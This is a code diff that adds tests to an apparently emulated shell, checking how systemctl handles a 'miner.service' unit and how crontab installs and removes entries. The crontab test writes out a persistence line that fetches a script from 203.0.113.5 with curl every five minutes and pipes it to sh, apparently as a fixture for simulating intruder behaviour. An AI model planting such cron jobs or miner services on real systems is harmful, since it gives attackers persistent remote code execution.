@@ -164,3 +164,32 @@ describe("everything ends within its bounds", () => {
     expect((await run).status).toBe(130);
   });
 });
+
+describe("what intruders leave behind to come back", () => {
+  test("a unit file that is enabled is linked, shown as such and taken away again", async () => {
+    const shell = openTestShell();
+    const unit = "/etc/systemd/system/miner.service";
+    const { both, status } = await shell.run(
+      `systemctl enable miner; echo $?; printf '[Service]\n' > ${unit}; systemctl daemon-reload; systemctl is-enabled miner; systemctl enable miner; systemctl start miner.service; systemctl is-enabled miner; readlink /etc/systemd/system/multi-user.target.wants/miner.service; systemctl disable miner; systemctl is-enabled miner`,
+    );
+    await shell.close();
+    const link = "/etc/systemd/system/multi-user.target.wants/miner.service";
+    expect(both).toBe(
+      `Failed to enable unit: Unit file miner.service does not exist.\n1\ndisabled\nCreated symlink ${link} \xe2\x86\x92 ${unit}.\nenabled\n${unit}\nRemoved "${link}".\ndisabled\n`,
+    );
+    expect(status).toBe(1);
+  });
+
+  test("a crontab is installed from a file or standard input, refused when it is none, and removed", async () => {
+    const shell = openTestShell();
+    const line = "*/5 * * * * curl -s http://203.0.113.5/x | sh";
+    const { out, err } = await shell.run(
+      `crontab -l; (crontab -l 2>/dev/null; echo '${line}') | crontab -; crontab -l; echo 'nonsense here' | crontab -; echo $?; crontab -l; crontab -r; crontab -l; echo $?`,
+    );
+    await shell.close();
+    expect(out).toBe(`${line}\n1\n${line}\n1\n`);
+    expect(err).toBe(
+      `no crontab for root\n"-":0: bad minute\nerrors in crontab file, can't install.\nno crontab for root\n`,
+    );
+  });
+});
